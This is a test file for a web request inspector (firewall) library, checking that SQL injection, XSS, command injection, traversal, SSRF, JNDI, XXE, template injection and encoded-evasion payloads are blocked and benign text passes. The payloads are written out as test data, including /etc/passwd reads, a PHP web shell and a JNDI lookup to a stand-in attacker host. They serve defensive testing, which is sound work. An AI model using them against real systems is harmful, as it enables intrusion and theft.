import { describe, expect, it } from 'vitest';
import { createInspector, inspect, type InspectRequest, type JsonHint } from './index.js';

const get = (query: string, headers: Record<string, string> = {}): InspectRequest => ({ method: 'GET', path: '/api/items', query, headers: { host: 'api.example.com', ...headers } });
const json = (body: unknown): InspectRequest => ({ method: 'POST', path: '/api/items', query: '', headers: { host: 'api.example.com', 'content-type': 'application/json' }, body: JSON.stringify(body) });
const q = (v: string) => get('q=' + encodeURIComponent(v));
const categories = (r: ReturnType<typeof inspect>) => [...new Set(r.findings.map((f) => f.category))];

describe('inspect: attacks are blocked with evidence', () => {
  it.each([
    ['sqli', "1' OR '1'='1"],
    ['sqli', 'admin\'--'],
    ['sqli', '1 UNION SELECT password FROM users'],
    ['sqli', "1'; DROP TABLE users--"],
    ['sqli', '1 AND SLEEP(5)'],
    ['xss', '<script>alert(1)</script>'],
    ['xss', '<img src=x onerror=alert(1)>'],
    ['xss', 'javascript:alert(document.cookie)'],
    ['xss', '"><svg/onload=alert(1)>'],
    ['cmdi', '; cat /etc/passwd'],
    ['cmdi', '$(whoami)'],
    ['cmdi', 'x;${IFS}id'],
    ['traversal', '../../../../etc/passwd'],
    ['ssrf', 'http://169.254.169.254/latest/meta-data/'],
    ['ssrf', 'http://2130706433/'],
    ['ssrf', 'gopher://127.0.0.1:6379/_INFO'],
    ['ldapi', '*)(uid=*))(|(uid=*'],
    ['ssti', "{{''.__class__.__mro__[1].__subclasses__()}}"],
    ['jndi', '${${lower:j}ndi:ldap://evil.example/a}'],
    ['crlf', 'x\r\nSet-Cookie: admin=1'],
    ['mail', 'me@example.com\nBcc: all@example.com'],
    ['ssi', '<!--#exec cmd="id"-->'],
    ['java', 'java.lang.Runtime'],
    ['php', '<?php system($_GET[1]); ?>'],
  ])('%s: %s', (category, payload) => {
    const r = inspect(q(payload));
    expect(r.blocked).toBe(true);
    expect(categories(r)).toContain(category);
    const f = r.findings.find((x) => x.category === category);
    expect(f?.location).toBe('query:q');
    expect(f?.reason.length).toBeGreaterThan(5);
    expect(f?.fragment.length).toBeGreaterThan(0);
  });

  it('finds NoSQL operators in JSON keys and bracketed query keys', () => {
    expect(categories(inspect(json({ user: 'a', password: { $ne: null } })))).toContain('nosqli');
    expect(categories(inspect(get('user=a&password[$ne]=x')))).toContain('nosqli');
  });

  it('finds prototype pollution keys', () => {
    expect(inspect(json({ __proto__: { admin: true } })).blocked).toBe(false); // JSON.stringify drops __proto__: build the text by hand
    const body = '{"__proto__":{"admin":true}}';
    expect(categories(inspect({ ...json({}), body }))).toContain('prototype-pollution');
    expect(categories(inspect(get('constructor[prototype][admin]=1')))).toContain('prototype-pollution');
  });

  it('finds XXE in XML bodies', () => {
    const body = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';
    const r = inspect({ method: 'POST', path: '/soap', query: '', headers: { 'content-type': 'application/xml' }, body });
    expect(categories(r)).toContain('xxe');
  });

  it('decodes before detecting: double URL encoding, HTML entities, \\u escapes, full-width forms, base64', () => {
    expect(inspect(get('q=%253Cscript%253Ealert(1)%253C%252Fscript%253E')).blocked).toBe(true);
    expect(inspect(q('<a href="jav&#x61;script:alert(1)">x</a>')).blocked).toBe(true);
    expect(inspect(json({ q: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e' })).blocked).toBe(true);
    expect(inspect(q('＜script＞alert(1)＜/script＞')).blocked).toBe(true);
    expect(inspect(json({ data: Buffer.from("' UNION SELECT password FROM users--").toString('base64') })).blocked).toBe(true);
    expect(inspect(get('f=..%c0%af..%c0%afetc%c0%afpasswd')).blocked).toBe(true);
  });

  it('inspects headers, cookies and path segments', () => {
    expect(categories(inspect(get('', { 'user-agent': '${jndi:ldap://x.example/a}' })))).toContain('jndi');
    expect(categories(inspect(get('', { cookie: "sid=1' or '1'='1" })))).toContain('sqli');
    expect(categories(inspect({ method: 'GET', path: '/users/1%20union%20select%20password%20from%20users', query: '', headers: {} }))).toContain('sqli');
  });
});

describe('inspect: benign traffic passes', () => {
  it.each([
    "O'Brien",
    'Mary-Jane O\'Connor',
    'Please select the best option from the menu.',
    'We will drop the old plan and union the two teams.',
    "I'd rather update my address; it's changed.",
    'Price: $19.99 (incl. VAT) - 50% off!',
    'https://www.example.com/products/123?ref=mail&x=1',
    '**bold** and `code` and [a link](https://docs.example.com/a/b)',
    'status = \'open\' AND priority >= 2',
    '1 or 2 people will attend',
    'Tom & Jerry <3',
    '2024-05-01T10:00:00Z',
    'a1b2c3d4-e5f6-4711-8899-aabbccddeeff',
  ])('%s', (text) => {
    const r = inspect(q(text));
    expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
  });

  it('passes a typical JSON body', () => {
    const r = inspect(json({ name: "Anne-Marie d'Arcy", email: 'a@example.com', bio: 'Union rep; likes select wines & cheese.', tags: ['a', 'b'], age: 42 }));
    expect(r.blocked).toBe(false);
    expect(r.score).toBe(0);
  });
});

describe('options', () => {
  it('paranoia gates rules: a PL2 rule does not run at PL1', () => {
    const req = q('abc\u0001def');
    expect(createInspector({ paranoia: 2 }).inspect(req).blocked).toBe(true);
    expect(createInspector({ paranoia: 1 }).inspect(req).blocked).toBe(false);
  });

  it('threshold decides blocking', () => {
    const req = q('<b onclick=x>');
    expect(createInspector({ threshold: 5 }).inspect(req).blocked).toBe(true);
    expect(createInspector({ threshold: 100 }).inspect(req).blocked).toBe(false);
  });

  it('exclusions by location, detector and rule', () => {
    const req = json({ comment: '<b onclick="x()">hi</b>', other: 'ok' });
    expect(inspect(req).blocked).toBe(true);
    expect(createInspector({ exclusions: [{ location: 'body:/comment', detector: 'xss' }] }).inspect(req).blocked).toBe(false);
    expect(createInspector({ exclusions: [{ location: 'body:/*' }] }).inspect(req).blocked).toBe(false);
    expect(createInspector({ exclusions: [{ detector: 'xss.event-handler' }] }).inspect(req).findings.some((f) => f.ruleId === 'xss.event-handler')).toBe(false);
    expect(createInspector({ exclusions: [{ location: 'body:/other', detector: 'xss' }] }).inspect(req).blocked).toBe(true);
  });

  it('caps inspected bytes and says so', () => {
    const big = json({ a: 'x'.repeat(5000), b: '<script>alert(1)</script>' });
    const r = createInspector({ maxInspectBytes: 2048 }).inspect(big);
    expect(r.truncated).toBe(true);
    expect(r.inspectedBytes).toBeLessThanOrEqual(2048);
    expect(createInspector({ maxInspectBytes: 65536 }).inspect(big).blocked).toBe(true);
  });

  it('a finding fragment is bounded', () => {
    const r = inspect(q('<script>' + 'a'.repeat(10_000)));
    for (const f of r.findings) expect(f.fragment.length).toBeLessThanOrEqual(120);
  });
});

describe('lower-casing that changes length', () => {
  it('cannot shift the SQL lexer (İ lower-cases to two code units)', () => {
    expect(inspect(q('İİİİ 1 UNION SELECT password FROM users')).blocked).toBe(true);
    expect(inspect(q("İİ' OR 1=1--")).blocked).toBe(true);
  });
});

describe('a body the caller parsed and validated (json + hint)', () => {
  const leaf = (inert: boolean): JsonHint => ({ inert, properties: undefined, additional: true, items: undefined });
  const hint: JsonHint = {
    inert: false,
    additional: true,
    items: undefined,
    properties: new Map<string, JsonHint>([
      ['role', leaf(true)],
      ['bio', leaf(false)],
      ['tags', { inert: false, properties: undefined, additional: true, items: leaf(false) }],
    ]),
  };
  const req = (value: unknown): InspectRequest => ({ method: 'POST', path: '/users', query: '', headers: { 'content-type': 'application/json' }, json: { value, hint } });

  it('free-text members and undeclared members are inspected; the body is not parsed again', () => {
    const r = inspect({ ...req({ bio: "x' OR '1'='1" }), body: 'not json at all' });
    expect(r.blocked).toBe(true);
    expect(r.findings.some((f) => f.location === 'body:/bio')).toBe(true);
    expect(inspect(req({ tags: ['<script>alert(1)</script>'] })).findings.some((f) => f.location === 'body:/tags/0')).toBe(true);
    expect(inspect(req({ other: "1; DROP TABLE users--" })).blocked).toBe(true);
    expect(inspect(req({ '$where': 'x' })).findings.some((f) => f.location === 'body-key:/$where')).toBe(true);
  });

  it('members the schema made inert are skipped; declared names are not inspected', () => {
    // 'role' validated against an enum: whatever it holds was one of the document's own values.
    expect(inspect(req({ role: "x' OR '1'='1" })).findings).toEqual([]);
    expect(inspect(req({ role: 'admin', bio: 'Loves select wines' })).findings).toEqual([]);
  });

  it('query parameters the caller validated as inert are skipped, names and values; the others are inspected', () => {
    const q = { method: 'GET', path: '/users', headers: {}, inertQuery: new Set(['limit']) };
    expect(inspect({ ...q, query: 'limit=' + encodeURIComponent("1' OR '1'='1") }).findings).toEqual([]);
    expect(inspect({ ...q, query: 'q=' + encodeURIComponent("1' OR '1'='1") }).blocked).toBe(true);
  });

  it('without a hint every member is inspected, as for a body it parses itself', () => {
    const r = inspect({ method: 'POST', path: '/', query: '', headers: {}, json: { value: { role: "x' OR '1'='1" } } });
    expect(r.blocked).toBe(true);
  });
});

describe('JSON keys', () => {
  it('camelCase identifiers are schema, base64-looking keys are inspected', async () => {
    const { isCamelCase } = await import('./extract/request.js');
    for (const k of ['firstName', 'itemsPerPage', 'userID', 'HTMLParser', 'address2', 'emailNotifications']) expect(isCamelCase(k), k).toBe(true);
    for (const k of ['rO0ABQ', 'cnVudGltZQ', 'YWxlcnQoMSk', 'PHNjcmlwdD4', 'dGVzdA']) expect(isCamelCase(k), k).toBe(false);
  });
});

describe('cheap reads that keep their evidence', () => {
  const get = (path: string, headers: Record<string, string> = {}): InspectRequest => ({ method: 'GET', path, query: '', headers: { host: 'x', ...headers } });
  it('a plain Content-Type is left to the protocol rules; one carrying anything else is inspected', () => {
    expect(inspect({ ...get('/'), method: 'POST', headers: { host: 'x', 'content-type': 'application/json; charset=utf-8' }, body: '{}' }).findings).toEqual([]);
    const r = inspect({ ...get('/'), method: 'POST', headers: { host: 'x', 'content-type': "application/json; charset=' UNION SELECT password FROM users--" }, body: '{}' });
    expect(r.findings.some((f) => f.category === 'sqli')).toBe(true);
  });
  it('a date-time is not read as an address; numeric address forms still are', () => {
    expect(inspect(get('/?t=2023-11-28T15:18:20Z&d=2024-05-01')).findings).toEqual([]);
    expect(inspect(get('/?url=' + encodeURIComponent('http://0x7f000001/'))).blocked).toBe(true);
    expect(inspect(get('/?url=' + encodeURIComponent('http://[::ffff:127.0.0.1]/'))).blocked).toBe(true);
  });
  it('a full stop is not a dot: prose ending sentences skips the dot-gated detectors, tokens with dots do not', async () => {
    const { charMask, M } = await import('./normalize/charmask.js');
    expect(charMask('Prefers written documentation. Thanks.') & M.DOT).toBe(0);
    for (const v of ['a.b', '../x', 'v1.0', 'file.php.', 'e.g. this', '...', '.env']) expect(charMask(v) & M.DOT, v).not.toBe(0);
    expect(inspect(get('/?q=' + encodeURIComponent('See ../../etc/passwd.'))).blocked).toBe(true);
  });
  it('one pass gives the mask and the shape bits (digits, capitals, capitals inside runs, camel humps)', async () => {
    const { charMaskShape, charMask, S } = await import('./normalize/charmask.js');
    const out = new Int32Array(1);
    const shape = (v: string) => (charMaskShape(v, out), out[0] ?? 0);
    expect(shape('ada lovelace')).toBe(0);
    expect(shape('Ada Lovelace')).toBe(S.UPPER);
    expect(shape('getRuntime')).toBe(S.UPPER | S.UPPER_INSIDE | S.CAMEL);
    expect(shape('rO0ABQ')).toBe(S.UPPER | S.UPPER_INSIDE | S.CAMEL | S.DIGIT);
    expect(shape('x/Abc') & S.UPPER_INSIDE).not.toBe(0);
    expect(shape('base64_decode')).toBe(S.DIGIT | S.UNDERSCORE);
    expect(shape('gzinflate') & S.GZ_BZ).not.toBe(0);
    expect(shape('BZdecompress') & S.GZ_BZ).not.toBe(0);
    expect(shape('zig bag zone') & S.GZ_BZ).toBe(0);
    for (const v of ['Done. Next', 'a.b', "O'Brien <b>", '../etc']) expect(charMaskShape(v, out), v).toBe(charMask(v));
  });
  it('a request path is a command line only through shell punctuation', () => {
    expect(inspect(get('/usr/share/docs')).blocked).toBe(false);
    expect(inspect(get('/cgi-bin/status;cat%20/etc/passwd')).blocked).toBe(true);
  });
  it('Java class names: qualified names and code-shaped references, not sentences or versions', () => {
    expect(inspect(get('/', { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0 Safari/537.36' })).findings).toEqual([]);
    expect(inspect(get('/?q=' + encodeURIComponent('The process ran. Runtime was short.'))).blocked).toBe(false);
    expect(inspect(get('/?q=' + encodeURIComponent('java.lang.Runtime.getRuntime().exec("id")'))).blocked).toBe(true);
    expect(inspect(get('/?q=' + encodeURIComponent('x=org.apache.commons.collections.functors.InvokerTransformer'))).blocked).toBe(true);
    // camel-cased or glued to code punctuation: still read
    expect(inspect(get('/?q=' + encodeURIComponent('new ProcessBuilder'))).findings.some((f) => f.category === 'java')).toBe(true);
    expect(inspect(get('/?q=' + encodeURIComponent('x = processbuilder;'))).findings.some((f) => f.category === 'java')).toBe(true);
    // lower-case prose is not read word by word
    expect(inspect(get('/?q=' + encodeURIComponent('the runtime of the process was short'))).findings).toEqual([]);
  });
});

describe('header verdicts remembered per inspector', () => {
  it('a repeated header value gets the same findings, a new one its own', () => {
    const ins = createInspector();
    const req = (ua: string): InspectRequest => ({ method: 'GET', path: '/', query: '', headers: { host: 'x', 'user-agent': ua } });
    const bad = "Mozilla/5.0' UNION SELECT password FROM users--";
    const first = ins.inspect(req(bad));
    const again = ins.inspect(req(bad));
    expect(first.blocked).toBe(true);
    expect(again.findings).toEqual(first.findings);
    expect(ins.inspect(req('Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0')).findings).toEqual([]);
    expect(ins.inspect(req(bad)).blocked).toBe(true);
    // many distinct values: still right (the memory is bounded and evicts the oldest)
    for (let i = 0; i < 1500; i++) expect(ins.inspect(req(`client/${i}`)).blocked).toBe(false);
    expect(ins.inspect(req(bad)).blocked).toBe(true);
  });
});

describe('inspect: remembered header verdicts', () => {
  const ua = (value: string, name = 'user-agent') => get('', { [name]: value });
  const summary = (r: ReturnType<typeof inspect>) => r.findings.map((f) => `${f.ruleId}@${f.location}`).sort();

  it('a repeated header value gets the verdict it got the first time, under its own name', () => {
    const inspector = createInspector();
    const payload = "x' UNION SELECT password FROM users--";
    const first = inspector.inspect(ua(payload));
    expect(first.blocked).toBe(true);
    expect(summary(inspector.inspect(ua(payload)))).toEqual(summary(first));
    // The same value in another header is that header's finding, not the first one's.
    const referer = inspector.inspect(ua(payload, 'referer'));
    expect(referer.blocked).toBe(true);
    expect(referer.findings.every((f) => f.location === 'header:referer')).toBe(true);
    // A clean value remembered as clean stays clean, and a different value under the same name is inspected.
    expect(inspector.inspect(ua('Mozilla/5.0 (X11; Linux x86_64)')).blocked).toBe(false);
    expect(inspector.inspect(ua('Mozilla/5.0 (X11; Linux x86_64)')).blocked).toBe(false);
    expect(inspector.inspect(ua('<script>alert(1)</script>')).blocked).toBe(true);
  });

  it('many header names and values evict old entries without changing any verdict', () => {
    const inspector = createInspector();
    for (let round = 0; round < 2; round++) {
      for (let i = 0; i < 40; i++) {
        expect(inspector.inspect(ua(`client-${i}/1.0`, `x-h${i}`)).blocked).toBe(false);
        expect(inspector.inspect(ua(`1' OR '1'='1 -- ${i}`, `x-h${i}`)).blocked).toBe(true);
      }
      for (let i = 0; i < 300; i++) expect(inspector.inspect(ua(`agent-${i} <script>alert(${i})</script>`)).blocked).toBe(true);
    }
  });
});

describe('views', () => {
  it('a view of text without capitals is its own lower case; with capitals or non-ASCII letters it is folded', async () => {
    const { viewsOf } = await import('./normalize/views.js');
    const plain = 'ada lovelace, 12 analytical engine way';
    expect(viewsOf(plain)[0]?.lower).toBe(plain);
    expect(viewsOf('UNION Select')[0]?.lower).toBe('union select');
    expect(viewsOf('ÀB')[0]?.lower).toBe('àb');
  });
});

describe('base64 in a path segment or under another encoding', () => {
  const payload = Buffer.from("' UNION SELECT password FROM users--").toString('base64');
  it('a base64 path segment is decoded on its own', () => {
    expect(inspect(get('/')).blocked).toBe(false);
    const r = inspect({ method: 'GET', path: '/api/reports/' + payload.replaceAll('=', ''), query: '', headers: { host: 'api.example.com' } });
    expect(r.blocked).toBe(true);
    expect(r.findings.some((f) => f.location.startsWith('path:'))).toBe(true);
  });
  it('percent-encoded base64 in a JSON string is decoded after the percent-encoding', () => {
    expect(inspect(json({ token: encodeURIComponent(payload) })).blocked).toBe(true);
  });
  it('identifiers in paths and percent-encoded prose stay clean', () => {
    for (const path of ['/watch/dQw4w9WgXcQ', '/api/Users/getUserById', '/files/ReportFinal2024']) expect(inspect({ method: 'GET', path, query: '', headers: { host: 'api.example.com' } }).blocked, path).toBe(false);
    expect(inspect(json({ note: encodeURIComponent('Hello World, see you at 10am') })).blocked).toBe(false);
  });
});
